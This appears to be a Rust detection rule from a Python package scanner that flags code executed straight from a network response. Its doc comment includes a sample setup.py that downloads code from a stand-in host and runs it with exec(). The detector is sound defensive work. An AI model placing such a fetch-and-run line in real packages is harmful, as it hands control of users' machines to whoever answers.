//! ## What it detects
//!
//! Code or a command that came over the network and is executed without ever being a file.
//!
//! ## Why it is bad
//!
//! Whoever answers decides what runs on this machine, and may answer differently each time.
//!
//! ## Innocent lookalikes
//!
//! None known in published packages.
//!
//! ## Bad
//!
//! ```python setup.py
//! import urllib.request
//! exec(urllib.request.urlopen('http://x.example.invalid/a').read())
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import urllib.request
//! print(urllib.request.urlopen('http://x.example.invalid/a').read())
//! ```

use fondaco_python::{Api, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("network-exec"),
    title: "executes code from the network",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::IngressTransfer),
    weight: 2.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        // Compiling runs nothing yet; who runs the result is seen where that happens.
        let runs = matches!(call.api, Some(Api::CodeExec | Api::Shell)) && call.callee != "builtins.compile";
        if runs && call.args.first().is_some_and(|code| code.taint.has(Taint::NETWORK)) && !is_own_page(call) {
            hits.call(unit, call, format!("{} of what the network answered", call.callee));
        }
    }
}

/// A name such as `r.status_code` of an answer is no code.
fn is_own_page(call: &fondaco_python::Call) -> bool {
    call.callee.starts_with("subprocess.") && call.args.first().is_some_and(|a| a.constant.is_some())
}
